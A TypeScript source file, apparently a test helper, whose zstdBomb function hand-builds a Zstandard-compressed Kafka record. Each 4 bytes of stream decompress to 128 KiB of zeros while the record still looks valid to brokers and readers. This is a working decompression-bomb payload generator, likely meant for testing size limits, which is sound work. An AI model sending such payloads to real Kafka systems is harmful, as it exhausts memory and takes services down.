/** First bytes of a Zstandard frame (RFC 8878, 3.1.1): no size given, no checksum, a window of 1 MiB. */
const FRAME = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x50]);
const MAX_BLOCK = 131_072;
const RAW = 0;
const REPEATED = 1;

/**
 * The one record of a Kafka batch, compressed with Zstandard, whose value is `length` bytes of zero: 4 bytes for every 128 KiB. Broker
 * and readers find a record as it should be.
 */
export function zstdBomb(key: string, length: number): Buffer {
  const keyBytes = Buffer.from(key);
  const head = Buffer.concat([
    // Attributes, and no distance in time and offset from the batch.
    Buffer.from([0, 0, 0]),
    varint(keyBytes.length),
    keyBytes,
    varint(length),
  ]);
  const noHeaders = varint(0);
  const size = varint(head.length + length + noHeaders.length);
  const blocks: Buffer[] = [FRAME, block(RAW, size.length + head.length), size, head];
  for (let left = length; left > 0; left -= MAX_BLOCK) {
    blocks.push(block(REPEATED, Math.min(left, MAX_BLOCK)), Buffer.alloc(1));
  }
  blocks.push(block(RAW, noHeaders.length, true), noHeaders);
  return Buffer.concat(blocks);
}

function block(type: number, length: number, isLast = false): Buffer {
  const header = Buffer.alloc(3);
  header.writeUIntLE((length << 3) | (type << 1) | (isLast ? 1 : 0), 0, 3);
  return header;
}

/** Zigzag, seven bits a byte. */
function varint(value: number): Buffer {
  const bytes: number[] = [];
  let left = 2 * value;
  for (; left > 127; left = Math.floor(left / 128)) bytes.push((left % 128) | 128);
  bytes.push(left);
  return Buffer.from(bytes);
}
